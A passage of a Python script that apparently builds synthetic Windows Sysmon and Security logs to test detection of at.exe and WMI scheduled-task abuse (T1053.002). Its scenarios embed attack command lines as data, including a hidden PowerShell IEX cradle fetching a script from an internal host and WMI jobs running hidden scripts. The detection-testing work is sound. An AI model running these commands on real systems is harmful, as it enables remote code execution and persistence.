#!/usr/bin/env python3
"""Writes the synthetic Windows example telemetry for T1053.002 and its expected results.

Every event is invented (hosts, users, SIDs, GUIDs, hashes, times in 2026), built from the
documented shapes of Sysmon 1/11 and Security 4624/4634/4672/4688/4698, and rendered in the
formats atwatch reads: event XML lines, classic WinEventLog text, NXLog flat JSON, Winlogbeat
JSON and a Splunk search export. The same events appear in every format of a scenario, so the
formats can be compared with each other.

The expected results of the reference query are written to expected/<file>.expected.csv. They
come from `reference_query` below, a direct transcription of seed-query.spl under the rules of
shared/spl/SPEC.md with the legacy add-on profile; README.md explains each row.

Run: python3 tools/examples/generate-windows.py  (standard library only, deterministic).
"""

import csv
import datetime as dt
import hashlib
import json
import random
import re
from pathlib import Path
from xml.sax.saxutils import escape

ROOT = Path(__file__).resolve().parents[2]
HERE = ROOT / "examples" / "windows"
EXPECTED = ROOT / "atwatch-cli/src/test/resources/dev/atwatch/cli/expected-windows"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
SECURITY = "Security"
SYSMON_PROVIDER = ("Microsoft-Windows-Sysmon", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}")
SECURITY_PROVIDER = (
    "Microsoft-Windows-Security-Auditing",
    "{54849625-5478-4994-A5BA-3E3B0328C30D}",
)
SCHEDULE_SVCHOST = r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"
SYSTEM32 = "C:\\Windows\\System32\\"

rng = random.Random(20260310)


# ---------------------------------------------------------------------------------------------
# Hosts, users and processes
# ---------------------------------------------------------------------------------------------


class Host:
    """A Windows machine: names, a Sysmon GUID prefix and record counters per channel."""

    def __init__(self, fqdn, short, splunk_host, sid_domain):
        self.fqdn = fqdn
        self.short = short
        self.splunk_host = splunk_host
        self.guid_prefix = "%08x" % rng.getrandbits(32)
        self.sid_domain = sid_domain
        self.records = {
            SYSMON: rng.randint(180000, 240000),
            SECURITY: rng.randint(2100000, 3400000),
        }
        self.next_pid = rng.randint(3000, 9000)

    def record(self, channel):
        self.records[channel] += rng.randint(1, 3)
        return self.records[channel]

    def pid(self):
        self.next_pid += rng.randint(4, 300)
        return self.next_pid


class User:
    """An account as the events name it."""

    def __init__(self, domain, name, sid, logon_id, integrity="High"):
        self.domain = domain
        self.name = name
        self.sid = sid
        self.logon_id = logon_id
        self.logon_guid = None
        self.integrity = integrity

    @property
    def qualified(self):
        return self.domain + "\\" + self.name


SYSTEM_USER = User("NT AUTHORITY", "SYSTEM", "S-1-5-18", 0x3E7, "System")
KESTREL = "S-1-5-21-2781350942-1380267155-3904711732"


def hexid(value):
    return "0x%x" % value


def guid(host, when):
    """A Sysmon-style process GUID: host prefix, creation time, counters."""
    stamp = int(when.timestamp())
    return "{%s-%04x-%04x-%04x-%012x}" % (
        host.guid_prefix,
        (stamp >> 16) & 0xFFFF,
        stamp & 0xFFFF,
        rng.getrandbits(16),
        rng.getrandbits(28) << 8,
    )


IMAGE_META = {
    # image file name -> FileVersion, Description, Product, Company, OriginalFileName
    "at.exe": (
        "10.0.19041.1 (WinBuild.160101.0800)",
        "Schedule service command line interface",
        "Microsoft® Windows® Operating System",
        "Microsoft Corporation",
        "AT.EXE",
    ),
    "cmd.exe": (
        "10.0.19041.4355 (WinBuild.160101.0800)",
        "Windows Command Processor",
        "Microsoft® Windows® Operating System",
        "Microsoft Corporation",
        "Cmd.Exe",
    ),
    "powershell.exe": (
        "10.0.19041.3996 (WinBuild.160101.0800)",
        "Windows PowerShell",
        "Microsoft® Windows® Operating System",
        "Microsoft Corporation",
        "PowerShell.EXE",
    ),
    "pwsh.exe": ("7.4.6.500", "pwsh", "PowerShell", "Microsoft Corporation", "pwsh.dll"),
    "wmic.exe": (
        "10.0.19041.3636 (WinBuild.160101.0800)",
        "WMI Commandline Utility",
        "Microsoft® Windows® Operating System",
        "Microsoft Corporation",
        "wmic.exe",
    ),
    "whoami.exe": (
        "10.0.19041.1 (WinBuild.160101.0800)",
        "whoami - displays logged on user information",
        "Microsoft® Windows® Operating System",
        "Microsoft Corporation",
        "whoami.exe",
    ),
    "svchost.exe": (
        "10.0.19041.4355 (WinBuild.160101.0800)",
        "Host Process for Windows Services",
        "Microsoft® Windows® Operating System",
        "Microsoft Corporation",
        "svchost.exe",
    ),
    "explorer.exe": (
        "10.0.19041.4474 (WinBuild.160101.0800)",
        "Windows Explorer",
        "Microsoft® Windows® Operating System",
        "Microsoft Corporation",
        "EXPLORER.EXE",
    ),
    "chrome.exe": ("131.0.6778.140", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"),
    "schtasks.exe": (
        "10.0.19041.4239 (WinBuild.160101.0800)",
        "Task Scheduler Configuration Tool",
        "Microsoft® Windows® Operating System",
        "Microsoft Corporation",
        "schtasks.exe",
    ),
    "conhost.exe": (
        "10.0.19041.4355 (WinBuild.160101.0800)",
        "Console Window Host",
        "Microsoft® Windows® Operating System",
        "Microsoft Corporation",
        "CONHOST.EXE",
    ),
    "taskhostw.exe": (
        "10.0.19041.4355 (WinBuild.160101.0800)",
        "Host Process for Windows Tasks",
        "Microsoft® Windows® Operating System",
        "Microsoft Corporation",
        "taskhostw.exe",
    ),
    "OneDrive.exe": (
        "24.226.1110.0004",
        "Microsoft OneDrive",
        "Microsoft OneDrive",
        "Microsoft Corporation",
        "OneDrive.exe",
    ),
    "ms-teams.exe": (
        "24295.605.3225.8804",
        "Microsoft Teams",
        "Microsoft Teams",
        "Microsoft Corporation",
        "ms-teams.exe",
    ),
    "MpCmdRun.exe": (
        "4.18.24090.11 (WinBuild.160101.0800)",
        "Microsoft Malware Protection Command Line Utility",
        "Microsoft® Windows® Operating System",
        "Microsoft Corporation",
        "MpCmdRun.exe",
    ),
    "gpupdate.exe": (
        "10.0.19041.1 (WinBuild.160101.0800)",
        "Microsoft® Windows Group Policy Update Utility",
        "Microsoft® Windows® Operating System",
        "Microsoft Corporation",
        "GPUpdate.exe",
    ),
    "notepad.exe": (
        "10.0.19041.3996 (WinBuild.160101.0800)",
        "Notepad",
        "Microsoft® Windows® Operating System",
        "Microsoft Corporation",
        "NOTEPAD.EXE",
    ),
    "WmiPrvSE.exe": (
        "10.0.19041.3636 (WinBuild.160101.0800)",
        "WMI Provider Host",
        "Microsoft® Windows® Operating System",
        "Microsoft Corporation",
        "Wmiprvse.exe",
    ),
}


def meta(image):
    name = image.rsplit("\\", 1)[-1]
    for key, value in IMAGE_META.items():
        if key.lower() == name.lower():
            return value
    return ("-", "-", "-", "-", "-")


def hashes(image, original):
    """Stable per binary: the same file has the same hashes wherever it runs."""
    seed = (original or image).lower().encode()
    md5 = hashlib.md5(seed + b"kestrel-md5").hexdigest().upper()
    sha256 = hashlib.sha256(seed + b"kestrel-sha").hexdigest().upper()
    imphash = hashlib.md5(seed + b"kestrel-imp").hexdigest().upper()
    return "MD5=%s,SHA256=%s,IMPHASH=%s" % (md5, sha256, imphash)


class Process:
    """A running process: enough to render Sysmon 1 and Security 4688 for its creation."""

    def __init__(
        self,
        host,
        when,
        image,
        command_line,
        parent,
        user,
        cwd=None,
        file_meta=None,
        integrity=None,
    ):
        self.host = host
        self.when = when
        self.image = image
        self.command_line = command_line
        self.parent = parent
        self.user = user
        self.pid = host.pid()
        self.guid = guid(host, when)
        self.cwd = cwd or (SYSTEM32 if user is SYSTEM_USER else "C:\\Users\\%s\\" % user.name)
        self.meta = list(file_meta or meta(image))
        self.integrity = integrity or user.integrity


def root_process(host, image, command_line, user, when):
    """A long-running process whose creation is not part of the file (a parent)."""
    return Process(host, when, image, command_line, None, user)


# ---------------------------------------------------------------------------------------------
# Events
# ---------------------------------------------------------------------------------------------


class Event:
    """A Windows event: System values and ordered EventData, plus the tags used by README."""

    def __init__(
        self,
        host,
        channel,
        eid,
        when,
        data,
        version,
        task,
        level=4,
        keywords="0x8000000000000000",
        execution=None,
        user_sid=None,
        tag="benign",
    ):
        self.host = host
        self.channel = channel
        self.eid = eid
        self.when = when
        self.data = data
        self.version = version
        self.task = task
        self.level = level
        self.keywords = keywords
        self.execution = execution or (rng.randint(2800, 3400), rng.randint(3000, 9000))
        self.user_sid = user_sid
        self.record = host.record(channel)
        self.tag = tag

    @property
    def provider(self):
        return SYSMON_PROVIDER if self.channel == SYSMON else SECURITY_PROVIDER


def system_time(when):
    """SystemTime with seven fractional digits, as Windows writes it."""
    return (
        when.strftime("%Y-%m-%dT%H:%M:%S.")
        + "%06d%d" % (when.microsecond, when.microsecond % 7)
        + "Z"
    )


def ms_time(when):
    return when.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (when.microsecond // 1000)


def iso_ms(when, zulu=True):
    base = when.strftime("%Y-%m-%dT%H:%M:%S.") + "%03d" % (when.microsecond // 1000)
    return base + ("Z" if zulu else "+00:00")


def sysmon_exec(host):
    return (3172 if host.short.startswith("WS") else 2964, rng.randint(3800, 5200))


def sysmon_1(proc, tag="benign"):
    parent = proc.parent
    meta_values = proc.meta
    data = [
        ("RuleName", "-"),
        ("UtcTime", ms_time(proc.when)),
        ("ProcessGuid", proc.guid),
        ("ProcessId", str(proc.pid)),
        ("Image", proc.image),
        ("FileVersion", meta_values[0]),
        ("Description", meta_values[1]),
        ("Product", meta_values[2]),
        ("Company", meta_values[3]),
        ("OriginalFileName", meta_values[4]),
        ("CommandLine", proc.command_line),
        ("CurrentDirectory", proc.cwd),
        ("User", proc.user.qualified),
        (
            "LogonGuid",
            proc.user.logon_guid or "{%s-0000-0000-e703-000000000000}" % proc.host.guid_prefix,
        ),
        ("LogonId", hexid(proc.user.logon_id)),
        ("TerminalSessionId", "0" if proc.user is SYSTEM_USER else "1"),
        ("IntegrityLevel", proc.integrity),
        ("Hashes", hashes(proc.image, meta_values[4])),
        ("ParentProcessGuid", parent.guid),
        ("ParentProcessId", str(parent.pid)),
        ("ParentImage", parent.image),
        ("ParentCommandLine", parent.command_line),
        ("ParentUser", parent.user.qualified),
    ]
    # Whole milliseconds, so the sub-millisecond part stays clear of rounding edges.
    logged = proc.when + dt.timedelta(milliseconds=rng.randint(1, 3))
    return Event(
        proc.host,
        SYSMON,
        1,
        logged,
        data,
        5,
        1,
        execution=sysmon_exec(proc.host),
        user_sid="S-1-5-18",
        tag=tag,
    )


def sysmon_11(host, when, proc, target, tag="benign"):
    data = [
        ("RuleName", "-"),
        ("UtcTime", ms_time(when)),
        ("ProcessGuid", proc.guid),
        ("ProcessId", str(proc.pid)),
        ("Image", proc.image),
        ("TargetFilename", target),
        ("CreationUtcTime", ms_time(when)),
        ("User", proc.user.qualified),
    ]
    logged = when + dt.timedelta(milliseconds=rng.randint(1, 2))
    return Event(
        host,
        SYSMON,
        11,
        logged,
        data,
        2,
        11,
        execution=sysmon_exec(host),
        user_sid="S-1-5-18",
        tag=tag,
    )


ELEVATION = {"High": "%%1937", "System": "%%1936", "Medium": "%%1938"}
LABEL = {"High": "S-1-16-12288", "System": "S-1-16-16384", "Medium": "S-1-16-8192"}
SECURITY_KEYWORDS = "0x8020000000000000"


def security_event(host, eid, when, data, version, task, tag):
    return Event(
        host,
        SECURITY,
        eid,
        when,
        data,
        version,
        task,
        level=0,
        keywords=SECURITY_KEYWORDS,
        execution=(4, rng.randint(100, 9000)),
        tag=tag,
    )


def security_4688(proc, tag="benign"):
    creator = proc.parent
    data = [
        ("SubjectUserSid", proc.user.sid),
        (
            "SubjectUserName",
            proc.user.name if proc.user is not SYSTEM_USER else proc.host.short + "$",
        ),
        ("SubjectDomainName", proc.user.domain if proc.user is not SYSTEM_USER else "KESTREL"),
        ("SubjectLogonId", hexid(proc.user.logon_id)),
        ("NewProcessId", hexid(proc.pid)),
        ("NewProcessName", proc.image),
        ("TokenElevationType", ELEVATION.get(proc.integrity, "%%1936")),
        ("ProcessId", hexid(creator.pid)),
        ("CommandLine", proc.command_line),
        ("TargetUserSid", "S-1-0-0"),
        ("TargetUserName", "-"),
        ("TargetDomainName", "-"),
        ("TargetLogonId", "0x0"),
        ("ParentProcessName", creator.image),
        ("MandatoryLabel", LABEL.get(proc.integrity, "S-1-16-12288")),
    ]
    return security_event(proc.host, 4688, proc.when, data, 2, 13312, tag)


def security_4624(
    host,
    when,
    user,
    logon_type,
    process_name="C:\\Windows\\System32\\svchost.exe",
    ip="-",
    port="-",
):
    data = [
        ("SubjectUserSid", "S-1-5-18"),
        ("SubjectUserName", host.short + "$"),
        ("SubjectDomainName", "KESTREL"),
        ("SubjectLogonId", "0x3e7"),
        ("TargetUserSid", user.sid),
        ("TargetUserName", user.name),
        ("TargetDomainName", user.domain),
        ("TargetLogonId", hexid(user.logon_id)),
        ("LogonType", str(logon_type)),
        ("LogonProcessName", "User32 " if logon_type in (2, 7, 10) else "Kerberos"),
        ("AuthenticationPackageName", "Negotiate" if logon_type in (2, 7, 10) else "Kerberos"),
        ("WorkstationName", host.short),
        (
            "LogonGuid",
            "{%08x-%04x-%04x-%04x-%012x}"
            % (
                rng.getrandbits(32),
                rng.getrandbits(16),
                rng.getrandbits(16),
                rng.getrandbits(16),
                rng.getrandbits(48),
            ),
        ),
        ("TransmittedServices", "-"),
        ("LmPackageName", "-"),
        ("KeyLength", "0"),
        ("ProcessId", hexid(rng.choice([0x2D8, 0x3A4, 0x26C]))),
        ("ProcessName", process_name),
        ("IpAddress", ip),
        ("IpPort", port),
        ("ImpersonationLevel", "%%1833"),
        ("RestrictedAdminMode", "-"),
        ("TargetOutboundUserName", "-"),
        ("TargetOutboundDomainName", "-"),
        ("VirtualAccount", "%%1843"),
        ("TargetLinkedLogonId", "0x0"),
        ("ElevatedToken", "%%1842"),
    ]
    return security_event(host, 4624, when, data, 2, 12544, "benign")


PRIVILEGES = [
    "SeSecurityPrivilege",
    "SeTakeOwnershipPrivilege",
    "SeLoadDriverPrivilege",
    "SeBackupPrivilege",
    "SeRestorePrivilege",
    "SeDebugPrivilege",
    "SeSystemEnvironmentPrivilege",
    "SeImpersonatePrivilege",
    "SeDelegateSessionUserImpersonatePrivilege",
]


def security_4672(host, when, user):
    data = [
        ("SubjectUserSid", user.sid),
        ("SubjectUserName", user.name),
        ("SubjectDomainName", user.domain),
        ("SubjectLogonId", hexid(user.logon_id)),
        ("PrivilegeList", "\r\n\t\t\t".join(PRIVILEGES)),
    ]
    return security_event(host, 4672, when, data, 0, 12548, "benign")


def security_4634(host, when, user, logon_type=3):
    data = [
        ("TargetUserSid", user.sid),
        ("TargetUserName", user.name),
        ("TargetDomainName", user.domain),
        ("TargetLogonId", hexid(user.logon_id + 0x1F3)),
        ("LogonType", str(logon_type)),
    ]
    return security_event(host, 4634, when, data, 0, 12545, "benign")


TASK_XML = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <URI>\\{name}</URI>
  </RegistrationInfo>
  <Triggers>
    <TimeTrigger>
      <StartBoundary>{start}</StartBoundary>
      <Enabled>true</Enabled>
    </TimeTrigger>
  </Triggers>
  <Principals>
    <Principal id="Author">
      <UserId>S-1-5-18</UserId>
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>
    <DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>
    <StopIfGoingOnBatteries>false</StopIfGoingOnBatteries>
    <Enabled>true</Enabled>
    <ExecutionTimeLimit>PT72H</ExecutionTimeLimit>
  </Settings>
  <Actions Context="Author">
    <Exec>
      <Command>{command}</Command>
      <Arguments>{arguments}</Arguments>
    </Exec>
  </Actions>
</Task>"""


def security_4698(host, when, user, name, start, command, arguments, client_pid):
    content = TASK_XML.format(
        name=name, start=start, command=escape(command), arguments=escape(arguments)
    ).replace("\n", "\r\n")
    data = [
        ("SubjectUserSid", user.sid),
        ("SubjectUserName", user.name),
        ("SubjectDomainName", user.domain),
        ("SubjectLogonId", hexid(user.logon_id)),
        ("TaskName", "\\" + name),
        ("TaskContent", content),
        ("ClientProcessStartKey", str(rng.randint(10**15, 10**16))),
        ("ClientProcessId", str(client_pid)),
        ("ParentProcessId", str(rng.randint(600, 1200))),
        ("RpcCallClientLocality", "0"),
        ("FQDN", host.fqdn),
    ]
    return security_event(host, 4698, when, data, 1, 12804, "execution")


# ---------------------------------------------------------------------------------------------
# Scenarios
# ---------------------------------------------------------------------------------------------


def at(base, seconds):
    """A time `seconds` after base, with a sub-millisecond part kept away from rounding edges."""
    whole = int(seconds)
    millis = int(round((seconds - whole) * 1000))
    micro = millis * 1000 + rng.randint(210, 390)
    return base + dt.timedelta(seconds=whole, microseconds=micro)


class Scenario:
    """One replay: its events in time order and the processes it created."""

    def __init__(self, name, title, host, base, user):
        self.name = name
        self.title = title
        self.host = host
        self.base = base
        self.user = user
        self.events = []
        self.session = root_process(
            host,
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\Explorer.EXE",
            user,
            base - dt.timedelta(hours=3),
        )
        self.services = root_process(
            host,
            "C:\\Windows\\System32\\services.exe",
            "C:\\Windows\\system32\\services.exe",
            SYSTEM_USER,
            base - dt.timedelta(days=2),
        )
        self.schedule = Process(
            host,
            base - dt.timedelta(days=2),
            "C:\\Windows\\System32\\svchost.exe",
            SCHEDULE_SVCHOST,
            self.services,
            SYSTEM_USER,
        )

    def spawn(
        self, seconds, image, command_line, parent, user=None, tag="benign", security=True, **extra
    ):
        """A process creation seen by Sysmon 1 and, when audited, Security 4688."""
        proc = Process(
            self.host,
            at(self.base, seconds),
            image,
            command_line,
            parent,
            user or self.user,
            **extra
        )
        self.events.append(sysmon_1(proc, tag))
        if security:
            self.events.append(security_4688(proc, tag))
        return proc

    def add(self, event):
        self.events.append(event)

    def sorted_events(self):
        return sorted(self.events, key=lambda e: e.when)


def benign_background(scn, start, end, count):
    """Ordinary activity between start and end seconds: processes, file writes, logons."""
    user = scn.user
    chrome = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
    templates = [
        lambda t: scn.spawn(
            t,
            chrome,
            '"%s" --type=renderer --lang=en-US --renderer-client-id=%d '
            "--time-ticks-at-unix-epoch=-1773%09d --launch-time-ticks=%d --field-trial-handle=1948,i,"
            "%d,%d,262144 /prefetch:1"
            % (
                chrome,
                rng.randint(5, 90),
                rng.getrandbits(28),
                rng.getrandbits(34),
                rng.getrandbits(60),
                rng.getrandbits(60),
            ),
            scn.session,
        ),
        lambda t: scn.spawn(
            t,
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k %s"
            % rng.choice(
                [
                    "netsvcs -p -s BITS",
                    "LocalService -p -s FontCache",
                    "UnistackSvcGroup -s WpnUserService_%05x" % rng.getrandbits(20),
                    "LocalSystemNetworkRestricted -p -s SysMain",
                    "wsappx -p -s ClipSVC",
                ]
            ),
            scn.services,
            user=SYSTEM_USER,
        ),
        lambda t: scn.spawn(
            t,
            "C:\\Windows\\System32\\schtasks.exe",
            "schtasks  /query /fo LIST /v",
            scn.spawn(
                t - 0.4, SYSTEM32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ', scn.session
            ),
        ),
        lambda t: scn.spawn(
            t,
            SYSTEM32 + "wbem\\WMIC.exe",
            "wmic  os get Caption,Version,BuildNumber /value",
            scn.spawn(
                t - 0.7, SYSTEM32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ', scn.session
            ),
        ),
        lambda t: scn.spawn(
            t,
            SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
            'powershell.exe -NoProfile -Command "Get-Process | Sort-Object CPU -Descending '
            '| Select-Object -First 10"',
            scn.session,
        ),
        lambda t: scn.spawn(
            t,
            SYSTEM32 + "taskhostw.exe",
            "taskhostw.exe -RegisterDevice -ProtectionStateChanged",
            scn.schedule,
            user=SYSTEM_USER,
        ),
        lambda t: scn.spawn(
            t,
            "C:\\Users\\%s\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" % user.name,
            '"C:\\Users\\%s\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /updateInstalled '
            "/background" % user.name,
            scn.session,
            integrity="Medium",
        ),
        lambda t: scn.spawn(
            t,
            "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe",
            '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe"'
            " -wdenable",
            scn.services,
            user=SYSTEM_USER,
        ),
        lambda t: scn.spawn(
            t, SYSTEM32 + "gpupdate.exe", "gpupdate.exe /target:computer /force", scn.session
        ),
        lambda t: scn.add(
            sysmon_11(
                scn.host,
                at(scn.base, t),
                root_process(
                    scn.host, chrome, '"%s" ' % chrome, user, scn.base - dt.timedelta(hours=1)
                ),
                "C:\\Users\\%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_%06x"
                % (user.name, rng.getrandbits(20)),
            )
        ),
        lambda t: logon_burst(scn, t),
    ]
    step = (end - start) / count
    for i in range(count):
        t = start + step * i + rng.uniform(0.05, step * 0.8)
        rng.choice(templates)(round(t, 3))


def logon_burst(scn, t):
    """A network logon of the machine account with its special privileges, then the logoff."""
    machine = User(
        "KESTREL",
        scn.host.short + "$",
        KESTREL + "-%d" % rng.randint(1100, 1400),
        rng.randint(0x100000, 0xFFFFFF),
    )
    scn.add(
        security_4624(
            scn.host,
            at(scn.base, t),
            machine,
            3,
            "-",
            "10.20.0.%d" % rng.randint(10, 30),
            str(rng.randint(49152, 65535)),
        )
    )
    scn.add(security_4672(scn.host, at(scn.base, t + 0.001), machine))
    scn.add(security_4634(scn.host, at(scn.base, t + 2.5), machine))


def runner_shell(scn, seconds, command):
    """The Atomic Red Team runner: PowerShell in the user's session starting cmd.exe /c <test>."""
    ps = scn.spawn(
        seconds - 1.8,
        SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ',
        scn.session,
    )
    return scn.spawn(seconds - 0.6, SYSTEM32 + "cmd.exe", '"cmd.exe" /c "%s"' % command, ps)


def job_runs(scn, seconds, command_image, command_line, task, start, client_pid, run_after):
    """The Task Scheduler side: At job file and task registered, then the job started by svchost."""
    schedule = scn.schedule
    scn.add(
        sysmon_11(
            scn.host,
            at(scn.base, seconds + 0.05),
            schedule,
            "C:\\Windows\\Tasks\\%s.job" % task,
            tag="execution",
        )
    )
    command, _, arguments = command_line.partition(" ")
    scn.add(
        security_4698(
            scn.host,
            at(scn.base, seconds + 0.06),
            scn.user,
            task,
            start,
            command,
            arguments,
            client_pid,
        )
    )
    job = scn.spawn(
        seconds + run_after,
        command_image,
        command_line,
        schedule,
        user=SYSTEM_USER,
        tag="execution",
    )
    if "whoami" in command_line:
        scn.spawn(
            seconds + run_after + 0.03,
            SYSTEM32 + "whoami.exe",
            "whoami",
            job,
            user=SYSTEM_USER,
            tag="execution",
        )
    return job


def build_scenarios():
    fin = Host("WS-FIN-014.kestrel.lan", "WS-FIN-014", "ws-fin-014", KESTREL)
    app = Host("SRV-APP-03.kestrel.lan", "SRV-APP-03", "srv-app-03", KESTREL)
    eng = Host("WS-ENG-221.kestrel.lan", "WS-ENG-221", "ws-eng-221", KESTREL)
    okafor = User("KESTREL", "m.okafor", KESTREL + "-1187", 0x2A4F1C3)
    lindqvist = User("KESTREL", "adm.lindqvist", KESTREL + "-1562", 0x5B10D7E)
    reyes = User("KESTREL", "j.reyes", KESTREL + "-1309", 0x1C07A92)
    for user, host in ((okafor, fin), (lindqvist, app), (reyes, eng)):
        user.logon_guid = "{%s-%04x-%04x-%04x-000000000000}" % (
            host.guid_prefix,
            rng.getrandbits(16),
            rng.getrandbits(16),
            rng.getrandbits(16),
        )
    at_exe = SYSTEM32 + "at.exe"
    cmd_exe = SYSTEM32 + "cmd.exe"
    ps_exe = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
    scenarios = []

    # Test 1: at.exe scheduling cmd (Atomic Red Team T1053.002 #1 and the /every form).
    s = Scenario(
        "at-cmd", "at.exe scheduling cmd.exe", fin, dt.datetime(2026, 3, 10, 13, 2, 0), okafor
    )
    benign_background(s, 0, 180, 4)
    shell = runner_shell(s, 190.5, "at 13:20 /interactive cmd")
    first = s.spawn(190.5, at_exe, "at  13:20 /interactive cmd", shell, tag="attack")
    job_runs(s, 190.6, cmd_exe, "cmd", "At1", "2026-03-10T13:20:00", first.pid, 889.8)
    benign_background(s, 200, 420, 4)
    shell = runner_shell(s, 431.25, 'at.exe 09:00 /every:M,T "cmd.exe /c whoami"')
    s.spawn(431.25, at_exe, 'at.exe 09:00 /every:M,T "cmd.exe /c whoami"', shell, tag="attack")
    s.add(
        sysmon_11(
            fin, at(s.base, 431.31), s.schedule, "C:\\Windows\\Tasks\\At2.job", tag="execution"
        )
    )
    benign_background(s, 440, 880, 4)
    s.spawn(
        886.2,
        at_exe,
        "at",
        s.spawn(885.1, cmd_exe, '"C:\\Windows\\system32\\cmd.exe" ', s.session),
        tag="attack",
    )
    benign_background(s, 1090, 1300, 3)
    scenarios.append(s)

    # Test 2: at.exe scheduling PowerShell.
    s = Scenario(
        "at-powershell",
        "at.exe scheduling powershell.exe",
        fin,
        dt.datetime(2026, 3, 11, 9, 40, 0),
        okafor,
    )
    benign_background(s, 0, 200, 4)
    shell = runner_shell(
        s,
        212.4,
        'at 10:05 powershell.exe -nop -w hidden -c "IEX (New-Object '
        "Net.WebClient).DownloadString('http://10.20.4.17/a.ps1')\"",
    )
    first = s.spawn(
        212.4,
        at_exe,
        'at  10:05 powershell.exe -nop -w hidden -c "IEX (New-Object '
        "Net.WebClient).DownloadString('http://10.20.4.17/a.ps1')\"",
        shell,
        tag="attack",
    )
    job_runs(
        s,
        212.5,
        ps_exe,
        'powershell.exe -nop -w hidden -c "IEX (New-Object '
        "Net.WebClient).DownloadString('http://10.20.4.17/a.ps1')\"",
        "At1",
        "2026-03-11T10:05:00",
        first.pid,
        1287.64,
    )
    benign_background(s, 220, 600, 4)
    ps = s.spawn(611.0, ps_exe, "powershell.exe -ExecutionPolicy Bypass -NoProfile", s.session)
    s.spawn(
        618.84,
        at_exe,
        "at.exe 16:45 /interactive /every:F powershell.exe -ep bypass -File "
        "C:\\Users\\Public\\upd.ps1",
        ps,
        tag="attack",
    )
    s.add(
        sysmon_11(
            fin, at(s.base, 618.9), s.schedule, "C:\\Windows\\Tasks\\At2.job", tag="execution"
        )
    )
    benign_background(s, 630, 1480, 6)
    scenarios.append(s)

    # Test 3: Win32_ScheduledJob through WMI (PowerShell, pwsh, wmic path ...).
    s = Scenario(
        "wmi-scheduledjob",
        "Win32_ScheduledJob created through WMI",
        app,
        dt.datetime(2026, 3, 12, 12, 10, 0),
        lindqvist,
    )
    benign_background(s, 0, 160, 4)
    shell = s.spawn(
        168.0,
        ps_exe,
        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ',
        s.session,
    )
    first = s.spawn(
        171.6,
        ps_exe,
        'powershell.exe -c "Invoke-WmiMethod -Class Win32_ScheduledJob -Name '
        "Create -ArgumentList 'cmd.exe /c whoami > c:\\windows\\temp\\x.txt',"
        "'********123000.000000-000'\"",
        shell,
        tag="attack",
    )
    wmi = root_process(
        app,
        SYSTEM32 + "wbem\\WmiPrvSE.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe " "-secured -Embedding",
        SYSTEM_USER,
        s.base - dt.timedelta(hours=5),
    )
    job_runs(
        s,
        172.3,
        cmd_exe,
        "cmd.exe /c whoami > c:\\windows\\temp\\x.txt",
        "At1",
        "2026-03-12T12:30:00",
        wmi.pid,
        1027.83,
    )
    benign_background(s, 180, 420, 4)
    s.spawn(
        433.05,
        ps_exe,
        "powershell.exe -NoProfile -Command \"([wmiclass]'\\\\.\\root\\cimv2:"
        "Win32_ScheduledJob').Create('powershell.exe -w hidden -f C:\\ProgramData\\sync.ps1',"
        "'********021500.000000+000',$true,1,0,$false)\"",
        shell,
        tag="attack",
    )
    s.add(
        sysmon_11(
            app, at(s.base, 433.6), s.schedule, "C:\\Windows\\Tasks\\At2.job", tag="execution"
        )
    )
    benign_background(s, 440, 700, 4)
    pwsh = s.spawn(
        706.3,
        "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
        '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" ',
        s.session,
    )
    s.spawn(
        712.9,
        "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
        'pwsh.exe -NoLogo -Command "Invoke-CimMethod -ClassName Win32_ScheduledJob -MethodName Create '
        "-Arguments @{Command='C:\\ProgramData\\svc\\rtu.exe'; StartTime='********183000.000000+000'}\"",
        pwsh,
        tag="attack",
    )
    benign_background(s, 720, 1000, 3)
    cmd = s.spawn(1004.0, cmd_exe, '"C:\\Windows\\system32\\cmd.exe" ', s.session)
    s.spawn(
        1010.44,
        SYSTEM32 + "wbem\\WMIC.exe",
        "wmic  path win32_scheduledjob call create "
        '"powershell.exe -nop -c whoami","********140000.000000+000"',
        cmd,
        tag="attack",
    )
    s.spawn(
        1019.72,
        SYSTEM32 + "wbem\\WMIC.exe",
        'wmic  job call create "cmd.exe /c whoami",' '"********141500.000000+000"',
        cmd,
        tag="attack",
    )
    benign_background(s, 1030, 1300, 4)
    scenarios.append(s)

    # Variants a name-based rule can miss: a renamed at.exe, upper-case AT.EXE.
    s = Scenario(
        "at-evasion",
        "renamed and upper-case at.exe",
        eng,
        dt.datetime(2026, 3, 13, 22, 5, 0),
        reyes,
    )
    benign_background(s, 0, 200, 4)
    cmd = s.spawn(204.0, cmd_exe, '"C:\\Windows\\system32\\cmd.exe" ', s.session)
    s.spawn(
        209.5,
        SYSTEM32 + "cmd.exe",
